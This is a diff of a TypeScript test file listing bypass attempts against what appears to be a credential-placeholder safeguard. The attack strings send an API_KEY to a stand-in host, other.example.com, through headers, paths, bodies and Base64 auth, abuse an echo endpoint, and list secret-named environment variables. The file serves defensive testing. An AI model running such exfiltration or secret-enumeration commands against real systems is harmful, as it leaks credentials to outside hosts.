@@ -1,15 +1,10 @@
 import type { BypassCase } from '../bypass-case.ts'
+import { onSocket } from '../represented.ts'
 
 const key = "os.environ['API_KEY']"
 const elsewhere = { blocked: 'API_KEY' }
 
-/** Ways to a credential's value, or to take its placeholder where it does not belong. */
-export const credentials: readonly BypassCase[] = [
-  {
-    tried: 'a placeholder sent to another declared host, in a header',
-    attack: `get('other.example.com', '/', {'authorization': 'Bearer ' + ${key}})`,
-    ends: elsewhere,
-  },
+const sent: readonly BypassCase[] = [
   { tried: 'the same in the path', attack: `get('other.example.com', '/' + ${key})`, ends: elsewhere },
   { tried: 'the same in a body', attack: `get('other.example.com', '/', {}, ${key})`, ends: elsewhere },
   {
@@ -19,12 +14,9 @@ export const credentials: readonly BypassCase[] = [
       report = get('other.example.com', '/', {'authorization': 'Basic ' + base64.b64encode(('me:' + ${key}).encode()).decode()})`,
     ends: elsewhere,
   },
-  {
-    tried: 'the provider sends the credential back',
-    attack: `'the placeholder' if get('api.example.com', '/echo', {'x-key': ${key}})['body'] == ${key} else 'something else'`,
-    provider: ['/api/echo'],
-    ends: { reports: 'the placeholder' },
-  },
+]
+
+const obtained: readonly BypassCase[] = [
   {
     tried: 'the provider sends the credential back in Base64, and in hex',
     attack: `
@@ -41,13 +33,32 @@ export const credentials: readonly BypassCase[] = [
     tried: 'a placeholder of another execution',
     attack: `
       theirs = given['neighbour']['placeholder']
-      report = 'nobody’s value' if get('api.example.com', '/echo', {'x-key': theirs})['body'] == theirs else 'something else'`,
+      report = 'unchanged' if get('api.example.com', '/echo', {'x-key': theirs})['body'] == theirs else 'something else'`,
     provider: ['/api/echo'],
-    ends: { reports: 'nobody’s value' },
+    ends: { reports: 'unchanged' },
   },
   {
-    tried: 'values in the environment',
+    tried: 'credentials in the environment',
     attack: "sorted(name for name in os.environ if re.search('KEY|SECRET|TOKEN|PASS|AWS|DATABASE|DOCKER', name))",
     ends: { reports: ['API_KEY'] },
   },
+]
+
+/** Ways to obtain a credential's value, or to send its placeholder to the wrong host. */
+export const credentials: readonly BypassCase[] = [
+  {
+    tried: 'a placeholder sent to another declared host, in a header',
+    attack: `get('other.example.com', '/', {'authorization': 'Bearer ' + ${key}})`,
+    isAlone: true,
+    ends: elsewhere,
+  },
+  ...sent.map(onSocket),
+  {
+    tried: 'the provider sends the credential back',
+    attack: `'the placeholder' if get('api.example.com', '/echo', {'x-key': ${key}})['body'] == ${key} else 'something else'`,
+    provider: ['/api/echo'],
+    isAlone: true,
+    ends: { reports: 'the placeholder' },
+  },
+  ...obtained.map(onSocket),
 ]
